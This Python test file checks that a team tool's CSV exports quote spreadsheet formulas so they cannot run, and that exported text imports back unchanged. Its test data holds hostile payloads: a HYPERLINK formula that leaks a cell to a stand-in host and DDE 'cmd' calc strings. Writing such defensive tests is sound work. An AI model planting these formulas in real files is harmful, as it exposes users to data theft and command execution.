"""CSV exports never hand a spreadsheet a live formula: cells starting with = + - @, a
tab or a carriage return get a leading quote. Keel and its JSON keep the original text,
and a roster exported and imported again comes back exactly as it was."""

from __future__ import annotations

import csv
import datetime as dt
import json
from dataclasses import replace
from pathlib import Path

import pytest

from teamkeel.core import interchange
from teamkeel.core.csvcells import read_cell, safe_cell
from teamkeel.core.roster import Member, RosterService
from teamkeel.core.roster.csvio import export_roster_csv, import_roster_csv
from teamkeel.core.rotations.files import export_rotation
from teamkeel.core.rotations.service import RotationService
from teamkeel.core.standup.csv_export import export_csv
from teamkeel.core.standup.service import StandupService
from teamkeel.core.storage.teamfile import TeamFile

LEAK = '=HYPERLINK("https://example.invalid/?leak="&A2,"Open ticket")'
HOSTILE = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def no_live_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell


@pytest.mark.parametrize(
    "text",
    [*HOSTILE, "'=already quoted", "''@", "-3", "+4.5", "-", "plain", "", "'", "it's = fine"],
)
def test_a_cell_reads_back_as_it_was_written(text: str) -> None:
    assert read_cell(str(safe_cell(text))) == text


def test_numbers_stay_numbers_and_formulas_are_quoted() -> None:
    assert safe_cell("-3") == "-3" and safe_cell(12) == 12
    assert [safe_cell(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]


def test_the_log_export_quotes_a_formula_note_and_json_keeps_it(
    demo_team: TeamFile, tmp_path: Path
) -> None:
    service = StandupService(demo_team)
    owner = RosterService(demo_team).list_members()[0]
    service.add_blocker(dt.date(2026, 11, 2), owner.id, LEAK)
    out = tmp_path / "log.csv"
    export_csv(service, out)
    table = rows(out)
    assert [c for row in table for c in row if LEAK in c] == ["'" + LEAK]
    no_live_formula(table)
    doc = json.loads(interchange.dumps(interchange.export_document(demo_team)))
    assert LEAK in {e.get("note") for e in doc["standup"]}


def test_the_roster_export_is_safe_and_imports_back_unchanged(
    team: TeamFile, tmp_path: Path
) -> None:
    roster = RosterService(team)
    people = [
        Member(name="@Ana Formula", role="+Lead", notes=LEAK, skills=("=python", "sql")),
        Member(name="-Bo", role="-", notes="-2+3", goals=("@mentoring",)),
        Member(name="'=Cleo", role="'-quoted", notes="'@"),
    ]
    roster.add_many(people)
    out = tmp_path / "roster.csv"
    export_roster_csv(roster, out)
    no_live_formula(rows(out))
    with TeamFile.create(tmp_path / "again.keel") as again:
        imported = import_roster_csv(RosterService(again), out).members
        fields = sorted((m.name, m.role, m.notes, m.skills, m.goals) for m in imported)
    assert fields == sorted((m.name, m.role, m.notes, m.skills, m.goals) for m in people)


def test_the_rotation_csv_quotes_a_formula_name(demo_team: TeamFile, tmp_path: Path) -> None:
    roster = RosterService(demo_team)
    member = roster.list_members()[0]
    roster.update(replace(member, name="=cmd|' /C calc'!A0"))
    rotation = RotationService(demo_team).list_rotations()[0]
    out = tmp_path / "rotation.csv"
    export_rotation(demo_team, rotation.spec.id, out)
    table = rows(out)
    assert any("'=cmd|' /C calc'!A0" in cell for row in table for cell in row)
    no_live_formula(table)


def test_control_characters_never_reach_a_csv_or_a_pdf() -> None:
    from teamkeel.core.pdf.fonts import runs

    assert safe_cell("Zo\x00ë\x1b[2J\x9b") == "Zoë[2J"
    assert safe_cell("line\none\tcell") == "line\none\tcell"
    assert "".join(chunk for _, chunk in runs("Zo\x00ë\x1b[2J")) == "Zoë[2J"
